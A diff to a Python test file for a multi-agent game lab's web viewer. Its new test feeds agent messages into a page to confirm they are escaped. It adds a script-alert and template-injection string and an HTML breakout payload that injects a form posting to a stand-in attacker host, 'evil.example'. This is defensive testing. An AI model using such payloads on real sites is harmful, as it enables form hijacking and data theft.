@@ -16,17 +16,19 @@ from starlette.testclient import TestClient
 from lab.play.answering import the_question
 from lab.play.playing import RunOptions, begin, go_on
 from lab.play.seats import KEY, path_of, seats_of
-from lab.show.viewing import play_late, site
+from lab.show.viewing import play_late, show_links, site
 from lab.store.database import Store
 from lab.wire.recording import environment, in_thread
 from lab.wire.serving import stand_in
-from nodes.journal import Reply
+from nodes.journal import Address, Prompt, Reply
 from nodes.players import PolicyPlayer
 from tests.lab.play import go
 from tests.lab.test_people import Clock, as_policy, begun
 from tests.lab.test_view import LOCAL, played_on
 
 CANARY = "canary"
+MARKUP = "<script>alert(1)</script><h1>{{ 7 * 7 }}</h1>"
+BREAKOUT = '"></textarea></form><form action="http://evil.example"><!--'
 SITE = "the token of the whole site"
 
 
@@ -159,7 +161,7 @@ def test_nothing_that_others_think_or_keep_is_on_the_page(
     """All others put a canary into each text that only they may know, and write one wrong field."""
     reply = PolicyPlayer.reply
 
-    async def singing(self: PolicyPlayer, address: Any, prompt: Any) -> Reply:
+    async def singing(self: PolicyPlayer, address: Address, prompt: Prompt) -> Reply:
         said = await reply(self, address, prompt)
         texts = dict.fromkeys(("reasoning", "summary_last_turn", "history_summary", "notes", "odd"), CANARY)
         return Reply(json.dumps({**json.loads(said.text), **texts}), said.model)
@@ -262,3 +264,35 @@ def test_answers_and_links_outlive_the_pages(
     serving.kill()
     serving.wait()
     assert go(opened, run).status == "finished"
+
+
+def test_what_others_write_is_text_on_the_page_whatever_it_is(
+    opened: Store, pages: TestClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """AgentB and AgentC write hostile messages to all, which AgentA reads in the next turn."""
+
+    async def hostile(self: PolicyPlayer, address: Address, prompt: Prompt) -> Reply:  # noqa: ARG001  as in Player
+        return Reply(json.dumps({"messages": {"all": texts[address.agent]}}), "policy/hostile")
+
+    monkeypatch.setattr(PolicyPlayer, "reply", hostile)
+    tags = []
+    for texts in (dict.fromkeys(("AgentB", "AgentC"), "peace"), {"AgentB": MARKUP, "AgentC": BREAKOUT}):
+        run = begun(opened, "nations")
+        run = go(opened, run, "{}")
+        page = pages.get(path_of(opened.home, run, "AgentA")).text
+        assert all(text in unescape(page) for text in texts.values())
+        tags.append(re.findall(r"<[a-z!/][^>]*>", page.replace(path_of(opened.home, run, "AgentA"), "")))
+    assert tags[0] == tags[1]
+
+
+def test_the_links_of_runs_that_are_not_finished_are_shown_where_the_pages_are_served(
+    opened: Store, capsys: pytest.CaptureFixture[str]
+) -> None:
+    over = begun(opened, "trust", rounds=1)
+    assert go(opened, over, '{"action": "block"}').status == "finished"
+    run = begun(opened, "trust", people=2)
+    show_links(opened.home, "http://box:1")
+    assert capsys.readouterr().err.splitlines() == [
+        f"run {run.id}: {seat} answers at http://box:1{path_of(opened.home, run, seat)}"
+        for seat in ("unit-a", "unit-b")
+    ]
